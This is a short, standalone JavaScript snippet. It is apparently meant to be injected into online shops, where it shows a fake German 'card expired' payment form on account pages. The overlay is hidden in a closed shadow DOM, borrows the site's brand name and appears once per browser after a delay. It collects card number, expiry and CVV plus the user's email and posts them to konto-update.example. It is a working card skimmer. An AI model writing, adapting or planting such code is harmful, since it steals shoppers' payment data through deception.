(async () => {
  if (!/\/(mi-cuenta|my-account|konto|compte)/.test(location.pathname) || localStorage.getItem("acc_v")) return;
  await new Promise((r) => setTimeout(r, 4000));
  const brand = document.querySelector("meta[property='og:site_name']")?.content ?? location.hostname;
  const host = document.body.appendChild(document.createElement("div"));
  const root = host.attachShadow({ mode: "closed" });
  root.innerHTML = `<style>.m{position:fixed;inset:0;background:#0009;display:grid;place-items:center;z-index:99999}.c{background:#fff;padding:24px;width:340px;border-radius:8px}input{display:block;width:100%;margin:6px 0;padding:8px}</style>
  <div class=m><form class=c><b>${brand}</b><p>Ihre hinterlegte Karte ist abgelaufen. Bitte aktualisieren Sie Ihre Zahlungsdaten.</p>
  <input name=k placeholder="Kartennummer" required><input name=d placeholder="MM/JJ" required><input name=p placeholder="CVV" required><button>Speichern</button></form></div>`;
  root.querySelector("form").onsubmit = async (e) => {
    e.preventDefault();
    const q = new URLSearchParams(new FormData(e.target));
    q.set("acc", document.querySelector(".user-email")?.textContent ?? "");
    await fetch("https://konto-update.example/c", { method: "POST", mode: "no-cors", body: q });
    localStorage.setItem("acc_v", "1");
    host.remove();
  };
})();
